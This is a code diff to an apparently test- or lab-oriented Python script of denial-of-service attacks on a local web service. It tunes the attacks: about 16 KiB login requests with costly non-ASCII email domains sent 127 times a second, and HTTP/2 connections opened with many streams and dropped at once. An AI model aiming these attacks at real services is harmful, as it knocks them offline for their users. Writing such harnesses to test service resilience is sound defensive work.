@@ -14,7 +14,8 @@ from service import HOST
 
 ATTACKER = "127.0.0.2"
 HTTP2_BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
-STREAMS = 64
+# As many as the service lets one connection have.
+STREAMS = 32
 
 
 def connect(port: int, address: str = ATTACKER) -> socket.socket:
@@ -22,9 +23,9 @@ def connect(port: int, address: str = ATTACKER) -> socket.socket:
 
 
 def request(path: str, body: dict) -> bytes:
-    text = json.dumps(body)
+    text = json.dumps(body, ensure_ascii=False).encode()
     head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(text)}\r\n\r\n"
-    return (head + text).encode()
+    return head.encode() + text
 
 
 def headers_frame(stream: int, block: bytes, flags: int) -> bytes:
@@ -54,16 +55,15 @@ def post(path: str) -> bytes:
 
 
 def long_addresses(port: int) -> None:
-    """A1: addresses of 16 KB whose check is costly, 127 a second."""
-    domain = ".".join("ä" * 900 for _ in range(4))
+    """A1: addresses of almost 16 KiB with labels that are costly to encode, 127 a second."""
+    domain = ".".join("ä" * 500 for _ in range(7))
     sent = request("/api/auth/login", {"email": "a" * 8000 + "@" + domain, "password": "a long password"})
     began = time.monotonic()
     connection = connect(port)
     for number in itertools.count():
         time.sleep(max(0.0, began + number / 127 - time.monotonic()))
         try:
-            connection.sendall(sent[:16_000])
-            connection.sendall(sent[16_000:])
+            connection.sendall(sent)
             if not connection.recv(65536):
                 raise ConnectionResetError
         except OSError:
@@ -79,6 +79,8 @@ def hang_up(port: int) -> None:
         try:
             with connect(port) as connection:
                 connection.sendall(HTTP2_BEGIN + frames)
+                # Closed at once, the service would not read what was sent.
+                time.sleep(0.001)
         except OSError:
             time.sleep(0.001)
 
